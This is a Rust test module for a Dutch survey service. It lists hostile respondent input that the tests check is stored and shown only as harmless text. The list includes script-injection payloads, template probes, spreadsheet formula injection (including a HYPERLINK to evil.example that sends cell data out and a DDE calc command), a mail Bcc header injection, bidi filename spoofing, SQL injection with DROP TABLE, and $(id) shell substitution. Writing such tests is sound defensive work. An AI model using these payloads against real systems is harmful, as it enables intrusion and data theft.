//! Hostile input from respondents and from contact lists: markup and script, template syntax,
//! spreadsheet formulas, line breaks and control characters, bidirectional overrides, huge and
//! malformed posts. Accepted text is stored as given (control characters dropped) and shown as
//! text in every werkgroep page, chart, export and mail; refused posts get a clear 4xx and leave
//! nothing behind.

mod answers;
mod logins;
mod mails;
mod refused;

/// Text a respondent may type or paste. Every script here would set `window.__pwned` (or
/// `document.title`) if it ran; the browser test looks for that.
pub const CORPUS: &[&str] = &[
    "<script>window.__pwned = 'script'</script>",
    "\"><img src=x onerror=\"window.__pwned='img'\">",
    "'><svg onload=window.__pwned='svg'>",
    "</textarea><script>window.__pwned='textarea'</script>",
    "</title><script>document.title='pwned'</script>",
    "<a href=\"javascript:window.__pwned='href'\">klik</a>",
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    "<style>body{display:none}</style>",
    "{{ 7*7 }} {% raw %} {# commentaar #} ${7*7} <%= 7*7 %>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")",
    "=cmd|' /C calc'!A0",
    "+31 20 123 4567",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Regel een\r\nBcc: evil@example.org\r\n\r\nRegel twee",
    "Nul\0teken en bel\u{7} en escape\u{1b}[31m",
    "\u{202e}fdp.exe \u{2066}isolaat\u{2069} \u{200f}rtl",
    "Zalgo: Z\u{0351}\u{0368}a\u{0364}l\u{0313}g\u{0357}o en emoji 👩‍⚕️ en ﷽",
    "' OR '1'='1'; DROP TABLE responses; --",
    "\\\"; \\u0000 %00 %s %n {0} $(id) `id`",
];

/// What the service keeps of `text`: control characters other than line breaks and tabs dropped,
/// Windows line ends made `\n`, outer white space trimmed (as `forms::validate` does).
pub fn as_stored(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    let kept: String = text.chars().filter(|c| !c.is_control() || *c == '\n' || *c == '\t').collect();
    kept.trim().to_owned()
}

/// A form with a field of every kind a respondent can type into or choose from.
pub const FORM: &str = r#"
title = "Peiling met vrije tekst"
anonymous = false

[[pages]]
title = "Alles"

[[pages.questions]]
id = "kort"
type = "text"
label = "Korte toelichting"
max_length = 500

[[pages.questions]]
id = "opmerking"
type = "textarea"
label = "Opmerkingen"
max_length = 2000

[[pages.questions]]
id = "kanaal"
type = "single"
label = "Hoe neemt u meestal contact op?"
options = [{ value = "telefoon", label = "Telefoon" }, { value = "mail", label = "E-mail" }]
other = true

[[pages.questions]]
id = "kanalen"
type = "multi"
label = "Welke kanalen gebruikt u?"
options = [{ value = "telefoon", label = "Telefoon" }, { value = "mail", label = "E-mail" }]
other = true

[[pages.questions]]
id = "uren"
type = "number"
label = "Uren per week"
min = 0
max = 60
required = true
"#;
